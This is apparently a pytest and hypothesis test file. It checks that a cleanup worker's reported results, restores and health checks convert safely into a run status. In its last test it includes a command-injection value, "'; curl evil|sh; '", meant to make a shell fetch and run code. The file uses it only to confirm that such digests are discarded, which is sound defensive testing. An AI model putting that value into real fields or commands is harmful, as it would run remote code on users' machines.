"""From a worker's result to the status of its run: whatever the pod said, the status fits."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from housekeeper_api.durations import Duration
from housekeeper_api.harvest import LONGEST_KEPT, run_result
from housekeeper_api.result import AuditReport, CheckReport, Cleanup, Restoration, Result, ResultError
from housekeeper_api.run_result import RunResult

ENDED = dt.datetime(2026, 11, 22, 3, 5, tzinfo=dt.UTC)
DIGEST = f"sha256:{'0' * 64}"

anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(st.characters(), max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=4),
    max_leaves=8,
)
decisions = st.dictionaries(
    st.sampled_from(["path", "decision", "reason"]), st.sampled_from(["Keep", "Remove", "x" * 2000, ""]) | anything
)
reports = st.fixed_dictionaries(
    {
        "name": st.sampled_from(["a", "b", "c" * 100]) | anything,
        "result": st.sampled_from(["Passed", "Odd"]) | anything,
    },
    optional={"value": anything, "unit": anything, "message": anything},
)
cleanups = st.fixed_dictionaries(
    {},
    optional={
        **dict.fromkeys(
            (
                "scanned",
                "matched",
                "removed",
                "removedDirectories",
                "bytesFreed",
                "freedOnDisk",
                "errorCount",
                "planned",
                "plannedBytes",
            ),
            anything,
        ),
        "skipped": anything | st.dictionaries(st.text(max_size=3), st.integers(), max_size=40),
        "errors": anything | st.lists(st.just("x" * 300), max_size=8),
        "planDigest": anything,
        "planStored": anything,
        "notes": anything | st.lists(st.just("x" * 300), max_size=8),
        "sample": anything | st.lists(decisions, max_size=30),
        "audit": anything
        | st.fixed_dictionaries(
            {"to": st.sampled_from(["Log", "File", "Nowhere"]) | anything},
            optional=dict.fromkeys(("path", "lines", "head", "complete", "unrecorded"), anything),
        ),
    },
)


def said(**members: object) -> Result:
    return Result.from_json(
        json.dumps(
            {"schemaVersion": 1, "outcome": "Failed", "message": "m", "mode": "DryRun", "durationSeconds": 1} | members
        )
    )


def test_what_a_worker_says_arrives_whole() -> None:
    cleanup = Cleanup(
        scanned=9,
        matched=8,
        removed=7,
        removed_directories=2,
        bytes_freed=6,
        freed_on_disk=-5,
        skipped={"settling": 1},
        open_files={"notOpen": 7},
        errors=("a.log: permission denied",),
        error_count=1,
        plan_digest=DIGEST,
        planned=7,
        planned_bytes=6,
        plan_stored=".housekeeper/plans/00.plan",
        notes=("the audit went to the log",),
        sample=({"path": "a.log", "decision": "Keep", "reason": "settling"},),
        audit=AuditReport("File", "shop/logs/run-a1.ndjson", 12, "ab" * 32, complete=False, unrecorded=3),
        quarantined=5,
        bytes_quarantined=4,
        restorable_until="2026-11-29T03:00:00Z",
        purged=3,
        bytes_purged=2,
        now="2026-11-22T03:00:07Z",
    )
    result = Result(outcome="Succeeded", message="m", mode="Enforce", duration_seconds=1.5, cleanup=cleanup)
    status = run_result(result, ENDED)
    assert status is not None
    assert status.to_object() == {
        "cleanup": {
            "scanned": 9,
            "matched": 8,
            "removed": 7,
            "removedDirectories": 2,
            "bytesFreed": 6,
            "freed": "6 B",
            "freedOnDisk": -5,
            "skipped": {"settling": 1},
            "openFiles": {"notOpen": 7},
            "errors": ["a.log: permission denied"],
            "errorCount": 1,
            "planDigest": DIGEST,
            "planned": 7,
            "plannedBytes": 6,
            "planStored": ".housekeeper/plans/00.plan",
            "notes": ["the audit went to the log"],
            "sample": [{"path": "a.log", "decision": "Keep", "reason": "settling"}],
            "audit": {
                "to": "File",
                "path": "shop/logs/run-a1.ndjson",
                "lines": 12,
                "head": "ab" * 32,
                "complete": False,
                "unrecorded": 3,
            },
            "quarantined": 5,
            "bytesQuarantined": 4,
            "restorableUntil": "2026-11-29T03:00:00Z",
            "purged": 3,
            "bytesPurged": 2,
            "now": "2026-11-22T03:00:07Z",
        }
    }


def test_a_restore_arrives_whole() -> None:
    restore = Restoration(
        restored=9,
        bytes_restored=8,
        conflicts=1,
        directories_made=2,
        errors=("a: in the way",),
        error_count=3,
        audit=AuditReport("File", "shop/exports/undo-a1.ndjson", lines=12, head="0" * 64),
    )
    told = Result(outcome="Succeeded", message="m", mode="Enforce", duration_seconds=1, restore=restore)
    assert Result.from_json(told.to_json()) == told
    status = run_result(told, ENDED)
    assert status is not None
    assert status.to_object() == {
        "restore": {
            "restored": 9,
            "bytesRestored": 8,
            "conflicts": 1,
            "directoriesMade": 2,
            "errors": ["a: in the way"],
            "errorCount": 3,
            "audit": {
                "to": "File",
                "path": "shop/exports/undo-a1.ndjson",
                "lines": 12,
                "head": "0" * 64,
                "complete": True,
                "unrecorded": 0,
            },
        }
    }


@pytest.mark.parametrize("time", ["", "soon", "2026-11-29", "2026-11-29T03:00:00", "9999-01-01T00:00:00Z", 5, None])
def test_a_time_that_the_api_server_would_refuse_is_left_out(time: object) -> None:
    status = run_result(said(cleanup={"restorableUntil": time}), ENDED)
    assert status is not None
    assert status.cleanup is not None
    assert status.cleanup.restorable_until is None


@pytest.mark.parametrize(
    ("told", "kept"),
    [
        ("2036-11-19T03:05:00Z", "2036-11-19T03:05:00Z"),
        ("2036-11-19T03:05:01Z", "2036-11-19T03:05:00Z"),
        ("8999-01-01T00:00:00Z", "2036-11-19T03:05:00Z"),
    ],
)
def test_no_message_pins_a_record_for_longer_than_a_quarantine_may_be_kept(told: str, kept: str) -> None:
    assert LONGEST_KEPT.total_seconds() == Duration.parse("10y").seconds
    status = run_result(said(cleanup={"restorableUntil": told}), ENDED)
    assert status is not None
    assert status.to_object()["cleanup"]["restorableUntil"] == kept


def test_checks_arrive_whole() -> None:
    checks = (CheckReport("disk", "Warning", "81.00", "percent", "used 81 %"), CheckReport("cpu", "Unknown"))
    status = run_result(
        Result(outcome="Succeeded", message="m", mode="DryRun", duration_seconds=1, checks=checks), ENDED
    )
    assert status is not None
    assert status.to_object() == {
        "health": {
            "checks": [
                {"name": "disk", "result": "Warning", "value": "81.00", "unit": "percent", "message": "used 81 %"},
                {"name": "cpu", "result": "Unknown"},
            ]
        }
    }


def test_a_result_of_nothing_has_no_status() -> None:
    assert run_result(said(), ENDED) is None


@given(cleanup=cleanups)
def test_whatever_a_pod_says_of_a_clean_up_fits_the_status(cleanup: dict[str, object]) -> None:
    fits(said(cleanup=cleanup))


@given(checks=st.lists(reports, max_size=40))
def test_whatever_a_pod_says_of_checks_fits_the_status(checks: list[dict[str, object]]) -> None:
    try:
        result = said(checks=checks)
    except ResultError:
        return  # refused already where it was read
    fits(result)


def fits(result: Result) -> None:
    status = run_result(result, ENDED)
    assert status is not None
    plain = json.dumps(status.to_object(), ensure_ascii=False).encode()
    assert RunResult.model_validate_json(plain) == status


@pytest.mark.parametrize(
    "digest",
    [
        f"{DIGEST}'; curl evil|sh; '",
        f"{DIGEST}\n",
        f"x{DIGEST}",
        "sha256:x'; curl evil|sh; '",
        DIGEST.upper(),
        DIGEST[:-1],
        7,
        None,
    ],
)
def test_what_is_no_digest_never_gets_into_a_command_that_people_copy(digest: object) -> None:
    told = run_result(said(cleanup={"planDigest": digest, "planStored": "x"}), ENDED)
    assert told is not None
    assert told.cleanup is not None
    assert told.cleanup.plan_digest is None
